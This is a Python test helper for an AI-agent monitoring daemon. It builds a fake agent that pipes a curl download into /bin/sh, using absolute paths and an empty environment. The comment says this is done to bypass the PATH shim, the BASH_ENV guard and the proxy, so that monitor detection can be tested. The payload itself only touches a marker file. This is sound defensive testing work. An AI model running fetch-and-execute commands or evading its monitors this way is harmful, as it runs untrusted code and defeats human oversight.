"""Shared by the monitor tests: a quiet daemon with its own HOME, wrapped fake agents, alert polling."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, os.path.dirname(__file__))
from _daemon_helpers import BIN, adr_env, wait_for  # noqa: E402
from _wrap_helpers import QuietDaemon  # noqa: E402
from adr.daemon import protocol as P  # noqa: E402

ADR = str(BIN / "adr")


class MonitorDaemon(QuietDaemon):
    """A daemon without desktop channels whose HOME is a temporary one (the file monitor watches it)."""

    def __init__(self, home: Path, user_home: Path, config: str = "") -> None:
        super().__init__(home)
        self.user_home = user_home
        user_home.mkdir(parents=True, exist_ok=True)
        self.extra_env = {**QuietDaemon.extra_env, "HOME": str(user_home)}
        cfg = self.paths.config_file
        cfg.parent.mkdir(parents=True, exist_ok=True)
        cfg.write_text("breaker_denies: 0\nbreaker_asks: 0\n" + config)

    def env(self, **extra: str) -> dict[str, str]:
        return adr_env(self.home, HOME=str(self.user_home), **extra)

    def alerts(self, kind: str = "", all: bool = True) -> list[dict[str, Any]]:
        resp = self.request(P.Request(op="call", target="alerts.list", args={"all": all}))
        assert resp.ok, resp.error
        return [a for a in resp.data["alerts"] if not kind or a["kind"] == kind]

    def wait_alert(self, pred, kind: str = "", timeout: float = 30.0) -> "dict[str, Any] | None":
        def found():
            return next((a for a in self.alerts(kind) if pred(a)), None)
        return wait_for(found, timeout)

    def call(self, target: str, **args: Any) -> P.Response:
        return self.request(P.Request(op="call", target=target, args=args))

    def monitored(self, session: str) -> "dict[str, Any] | None":
        st = self.status()["components"]["processes"]
        return next((s for s in st["sessions"] if s["session"] == session), None)


def wrap(d: MonitorDaemon, argv: list[str], session: str, cwd: "Path | None" = None,
         **env: str) -> "subprocess.Popen[bytes]":
    """`adr wrap` (no proxy: the network tests start their own) running argv as a fake agent."""
    return subprocess.Popen([ADR, "wrap", "--session", session, "--no-proxy", "--", *argv], env=d.env(**env),
                            cwd=str(cwd) if cwd else None, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            start_new_session=True)


def stop_all(proc: "subprocess.Popen[bytes]") -> None:
    if proc.poll() is None:
        with_group(proc.pid, signal.SIGKILL)
        proc.wait(10)


def with_group(pid: int, sig: int) -> None:
    try:
        os.killpg(pid, sig)
    except (ProcessLookupError, PermissionError):
        pass


def state(pid: int) -> str:
    """The process's state letter (T: stopped), "" when it is gone."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            data = f.read()
        return data[data.rindex(b")") + 2:].split()[0].decode()
    except (OSError, ValueError, IndexError):
        return ""


def gone(pid: int) -> bool:
    return state(pid) in ("", "Z", "X")


def now_ms() -> float:
    return time.monotonic() * 1000


# The fake agent: starts /bin/sh -c '<curl> URL | /bin/sh' by absolute paths with an empty environment
# (no PATH: no shim; no BASH_ENV: no guard; no proxy variables), writes the shell's pid, waits for it.
AGENT = """\
import subprocess, sys
p = subprocess.Popen(["/bin/sh", "-c", sys.argv[1]], env={})
open(sys.argv[2], "w").write(str(p.pid))
sys.exit(p.wait() & 0xff)
"""


class Payload:
    """A local HTTP server with a payload that waits `wait` seconds before it touches `marker`, and the
    pipeline that downloads it into a shell."""

    def __init__(self, tmp: Path, wait: str = "3") -> None:
        import shutil

        from _wrap_helpers import LocalServer

        self.tmp = tmp
        root = tmp / "www"
        root.mkdir(exist_ok=True)
        self.marker = tmp / "payload-ran"
        (root / "payload.sh").write_text(f"sleep {wait}\ntouch {self.marker}\n")
        self.server = LocalServer(root)
        self.line = f"{shutil.which('curl') or '/usr/bin/curl'} -s {self.server.url('/payload.sh')} | /bin/sh"

    def agent(self, name: str = "agent") -> list[str]:
        """argv of the fake agent (python AGENT LINE PIDFILE); the shell's pid lands in `pidfile(name)`."""
        script = self.tmp / "agent.py"
        script.write_text(AGENT)
        return [sys.executable, str(script), self.line, str(self.pidfile(name))]

    def pidfile(self, name: str = "agent") -> Path:
        return self.tmp / f"{name}.pid"

    def close(self) -> None:
        self.server.close()
